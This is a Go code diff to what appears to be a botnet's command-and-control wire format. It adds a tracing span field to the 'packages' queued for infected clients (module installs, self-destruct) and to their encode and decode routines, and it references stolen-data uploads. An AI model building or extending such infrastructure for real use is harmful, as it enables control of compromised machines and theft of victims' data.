@@ -37,10 +37,15 @@ const (
 
 // Package is a command or module update parked in ads/ (targeted) or
 // news/ (broadcast).
+//
+// Span carries the causal episode of the operator order that queued the
+// package; it rides the wire so clients can attribute whatever the
+// command does (module install, suicide) to that order.
 type Package struct {
 	Name    string
 	Target  string // client ID; empty = all clients (news folder)
 	Payload []byte
+	Span    obs.Span
 }
 
 // Entry is one sealed stolen-data upload parked in entries/.
@@ -281,6 +286,9 @@ func encodePackages(pkgs []*Package) []byte {
 		writeFrame(&b, []byte(p.Name))
 		writeFrame(&b, []byte(p.Target))
 		writeFrame(&b, p.Payload)
+		var span [8]byte
+		binary.LittleEndian.PutUint64(span[:], uint64(p.Span))
+		b.Write(span[:])
 	}
 	return b.Bytes()
 }
@@ -315,7 +323,12 @@ func DecodePackages(raw []byte) ([]*Package, error) {
 			return nil, err
 		}
 		pos = n
-		out = append(out, &Package{Name: string(name), Target: string(target), Payload: payload})
+		if pos+8 > len(raw) {
+			return nil, ErrBadWire
+		}
+		span := obs.Span(binary.LittleEndian.Uint64(raw[pos:]))
+		pos += 8
+		out = append(out, &Package{Name: string(name), Target: string(target), Payload: payload, Span: span})
 	}
 	if pos != len(raw) {
 		return nil, fmt.Errorf("%w: trailing bytes", ErrBadWire)
